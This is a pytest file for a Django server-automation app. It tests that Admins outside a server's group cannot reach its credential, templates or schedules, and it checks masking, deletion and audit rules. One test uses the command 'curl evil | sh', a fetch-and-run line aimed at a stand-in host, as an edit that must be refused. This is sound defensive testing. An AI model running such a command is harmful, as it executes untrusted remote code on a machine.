"""Trust, round 2: an Admin outside a server's groups stays outside on every surface.

The world: `vault` is limited to the group Vault and has its own stored credential; `open` is
for every role. `radmin` is an Admin (and staff) outside Vault, `vadmin` one inside it. Each
test below failed before the fix it names (issue 19: items 2, 3, 4, 7, 8, 12).
"""

from __future__ import annotations

import pytest
from django.contrib.auth.models import Group
from django.test import Client
from django.utils import timezone

from accounts.models import AuditEvent
from automation import schedules
from automation.models import JobTemplate, RunOutcome, ScheduledRun, TemplateSchedule
from automation.services import save_template
from jobs.models import Job
from jobs.services import create_remote_exec_job
from servers.models import Credential, Server
from servers.services import create_server
from tests.api_helpers import assert_error, token_api
from tests.helpers import admin_template_form, make_user

pytestmark = pytest.mark.django_db


@pytest.fixture
def world():
    vault_group = Group.objects.create(name="Vault")
    vault = create_server(name="vault", host="192.0.2.50", password="vault-secret-pw", tags=["db"])
    vault.allowed_groups.add(vault_group)
    create_server(name="open", host="192.0.2.51", tags=["web"])
    radmin = make_user("radmin", role="Admins", is_staff=True)
    vadmin = make_user("vadmin", role="Admins", is_staff=True)
    vadmin.groups.add(vault_group)
    return {"vault": vault, "radmin": radmin, "vadmin": vadmin, "group": vault_group}


def choices(response, field: str) -> str:
    """The HTML of one <select> of a page."""
    text = response.content.decode()
    start = text.index(f'name="{field}"')
    return text[start : text.index("</select>", start)]


def admin_client(user) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


# ---- item 2: a restricted server's credential is restricted like it ----------------------------
def test_the_admin_hides_a_restricted_servers_credential_and_refuses_to_attach_it(world):
    cred = world["vault"].credential
    outsider, insider = admin_client(world["radmin"]), admin_client(world["vadmin"])
    assert f">{cred.name}<" not in outsider.get("/admin/servers/credential/").content.decode()
    assert f">{cred.name}<" in insider.get("/admin/servers/credential/").content.decode()
    assert outsider.get(f"/admin/servers/credential/{cred.pk}/change/").status_code == 302  # "doesn't exist"
    assert f">{cred.name}</option>" not in choices(outsider.get("/admin/servers/server/add/"), "credential")
    assert f">{cred.name}</option>" in choices(insider.get("/admin/servers/server/add/"), "credential")
    clone = {
        "name": "clone",
        "host": "203.0.113.7",  # any host the admin picks: vault's password must never go there
        "port": "22",
        "username": "root",
        "credential": str(cred.pk),
        "tags": "",
        "description": "",
        "max_concurrent_jobs": "4",
        "python_interpreter": "auto_silent",
    }
    response = outsider.post("/admin/servers/server/add/", clone)
    assert response.status_code == 200 and "Select a valid choice" in response.content.decode()
    assert not Server.objects.filter(name="clone").exists()
    assert insider.post("/admin/servers/server/add/", clone).status_code == 302  # inside Vault: allowed
    assert Server.objects.get(name="clone").credential_id == cred.pk


# ---- item 3: templates aimed only where the editor may run ---------------------------------------
def test_saving_a_template_needs_run_on_every_server_it_reaches(world):
    outsider, insider = token_api(world["radmin"]), token_api(world["vadmin"])
    direct = {"name": "rotate", "command": "true", "servers": ["vault"]}
    assert "limited to groups" in assert_error(outsider.post("/api/templates/", direct), 403)
    by_tag = {"name": "rotate", "command": "true", "tags": ["db"]}  # reaches vault through its tag
    assert "limited to groups" in assert_error(outsider.post("/api/templates/", by_tag), 403)
    assert not JobTemplate.objects.exists()
    assert insider.post("/api/templates/", direct).status_code == 201
    event = AuditEvent.objects.get(action="template.create", target="rotate")
    assert (event.actor_name, event.via) == ("vadmin", "api")


def test_another_users_template_on_a_restricted_server_is_out_of_reach(world):
    template = save_template(name="rotate", kind="command", command="true", servers=["vault"], user=world["vadmin"])
    outsider = admin_client(world["radmin"])
    assert outsider.get("/templates/rotate/edit/").status_code == 404
    edit = {"name": "rotate", "kind": "command", "command": "curl evil | sh", "servers": ["vault"]}
    assert outsider.post("/templates/rotate/edit/", edit).status_code == 404
    assert outsider.post("/templates/rotate/delete/", {"confirm": "yes"}).status_code == 404
    assert outsider.post("/templates/rotate/schedules/", {"cron": "* * * * *"}).status_code == 404
    assert outsider.get(f"/admin/automation/jobtemplate/{template.pk}/change/").status_code == 302
    api = token_api(world["radmin"])
    assert assert_error(api.get("/api/templates/rotate"), 404) == "No template named 'rotate'."
    assert assert_error(api.post("/api/templates/rotate/schedules", {"cron": "0 3 * * *"}), 404)
    assert api.get("/api/templates/").json() == []
    template.refresh_from_db()
    assert template.command == "true" and not template.schedules.exists()
    # The template form offers only the servers the editor may use.
    form = outsider.get("/templates/new/").content.decode()
    assert 'value="open"' in form and 'value="vault"' not in form


def test_the_admin_refuses_to_aim_a_template_at_a_restricted_server(world):
    outsider = admin_client(world["radmin"])
    offered = choices(outsider.get("/admin/automation/jobtemplate/add/"), "servers")
    assert ">open</option>" in offered and ">vault</option>" not in offered
    data = admin_template_form(name="sneaky", command="id", servers=[str(world["vault"].pk)])
    assert outsider.post("/admin/automation/jobtemplate/add/", data).status_code == 200
    by_tag = {**data, "servers": [], "tags": '["db"]'}
    response = outsider.post("/admin/automation/jobtemplate/add/", by_tag)
    assert response.status_code == 200 and "limited to groups" in response.content.decode()
    assert not JobTemplate.objects.exists()


# ---- item 4: a schedule runs as its owner, and an owner-less one pauses ------------------------
def _due_run(schedule: TemplateSchedule) -> ScheduledRun:
    return ScheduledRun.objects.create(schedule=schedule, scheduled_for=timezone.now().replace(microsecond=0))


@pytest.mark.parametrize("loss", ["deleted", "inactive", "left the group"])
def test_a_schedule_whose_owner_is_gone_is_refused_and_pauses_itself(world, loss):
    owner = world["vadmin"]
    template = save_template(name="rotate", kind="command", command="true", servers=["vault"], user=owner)
    schedule = schedules.save_schedule(template=template, cron="0 3 * * *", user=owner)
    assert schedule.created_by == owner and schedule.enabled
    if loss == "deleted":
        owner.delete()
    elif loss == "inactive":
        owner.is_active = False
        owner.save()
    else:
        owner.groups.remove(world["group"])
    run = _due_run(TemplateSchedule.objects.get(pk=schedule.pk))
    assert schedules.start_scheduled_run(run=run) == "refused"
    run.refresh_from_db()
    schedule.refresh_from_db()
    expected = {"deleted": "owner's account was deleted", "inactive": "inactive", "left the group": "limited to groups"}
    assert run.outcome == RunOutcome.FAILED and expected[loss] in run.note
    assert not schedule.enabled and expected[loss] in schedule.paused_reason and schedule.next_run_at is None
    assert not Job.objects.exists()
    assert AuditEvent.objects.filter(action="schedule.pause", via="schedule", target="rotate").exists()
    if loss != "deleted":  # the reason is shown where the schedule is
        page = admin_client(make_user("root", role=None, is_superuser=True)).get("/templates/rotate/")
        assert expected[loss] in page.content.decode()


def test_a_schedule_added_in_the_admin_gets_its_owner(world):
    template = save_template(name="nightly", kind="command", command="true", servers=["open"], user=world["vadmin"])
    data = admin_template_form(
        name="nightly",
        command="true",
        servers=[str(Server.objects.get(name="open").pk)],
        **{"schedules-TOTAL_FORMS": "1"},
    )
    data |= {
        "schedules-0-cron": "0 3 * * *",
        "schedules-0-timezone": "UTC",
        "schedules-0-overlap": "skip",
        "schedules-0-enabled": "on",
        "schedules-0-values": "{}",
    }
    root = make_user("root", role=None, is_staff=True, is_superuser=True)  # the inline needs schedule perms
    response = admin_client(root).post(f"/admin/automation/jobtemplate/{template.pk}/change/", data)
    assert response.status_code == 302, response.content.decode()[:2000]
    schedule = TemplateSchedule.objects.get(template=template)
    assert schedule.created_by == root and schedule.next_run_at is not None
    actions = set(AuditEvent.objects.filter(via="admin", target="nightly").values_list("action", flat=True))
    assert "schedule.create" in actions


# ---- item 7: what Viewers are shown ------------------------------------------------------------
def test_viewers_see_the_webhook_site_only(world):
    url = "https://hooks.slack.com/services/T000/B000/SECRETPART"
    save_template(name="ping", kind="command", command="true", servers=["open"], webhook_url=url)
    viewer = token_api(make_user("viewer", role="Viewers"))
    shown = {t["name"]: t for t in viewer.get("/api/templates/").json()}
    assert shown["ping"]["webhook_url"] == "https://hooks.slack.com/…"
    assert "SECRETPART" not in viewer.get("/api/templates/ping").content.decode()
    assert token_api(world["vadmin"]).get("/api/templates/ping").json()["webhook_url"] == url


# ---- item 8: deleting a restricted server keeps its jobs restricted -------------------------------
def test_a_restricted_server_with_jobs_cannot_be_deleted(world):
    job = create_remote_exec_job(server=world["vault"], command="true", created_by=world["vadmin"], enqueue=False)
    insider = admin_client(world["vadmin"])
    url = f"/admin/servers/server/{world['vault'].pk}/delete/"
    page = insider.get(url).content.decode()
    assert "would show those jobs to every Viewer" in page
    insider.post(url, {"post": "yes"})
    assert Server.objects.filter(name="vault").exists()
    viewer = token_api(make_user("viewer", role="Viewers"))
    assert viewer.get(f"/api/jobs/{job.job_id}").status_code == 403
    bulk = {"action": "delete_selected", "_selected_action": [world["vault"].pk], "post": "yes"}
    insider.post("/admin/servers/server/", bulk)
    assert Server.objects.filter(name="vault").exists()
    # A server for every role may go: its jobs were visible to every Viewer anyway.
    open_server = Server.objects.get(name="open")
    create_remote_exec_job(server=open_server, command="true", created_by=world["vadmin"], enqueue=False)
    assert insider.post(f"/admin/servers/server/{open_server.pk}/delete/", {"post": "yes"}).status_code == 302
    assert not Server.objects.filter(name="open").exists()


# ---- item 12: who may use a server is audited in the admin too ---------------------------------
def test_allowed_groups_changes_in_the_admin_are_audited(world):
    vault = world["vault"]
    data = {
        "name": "vault",
        "host": vault.host,
        "port": str(vault.port),
        "username": vault.username,
        "credential": str(vault.credential_id),
        "tags": "db",
        "description": "",
        "max_concurrent_jobs": "4",
        "python_interpreter": "auto_silent",
        "allowed_groups": [],  # opened to every role
    }
    response = admin_client(world["vadmin"]).post(f"/admin/servers/server/{vault.pk}/change/", data)
    assert response.status_code == 302, response.content.decode()[:2000]
    assert not Server.objects.get(pk=vault.pk).allowed_groups.exists()
    event = AuditEvent.objects.get(action="server.update", target="vault", via="admin")
    assert event.actor_name == "vadmin" and "allowed_groups" in event.detail["fields"]
    assert event.detail["allowed_groups"] == []
    assert Credential.objects.filter(pk=vault.credential_id).exists()
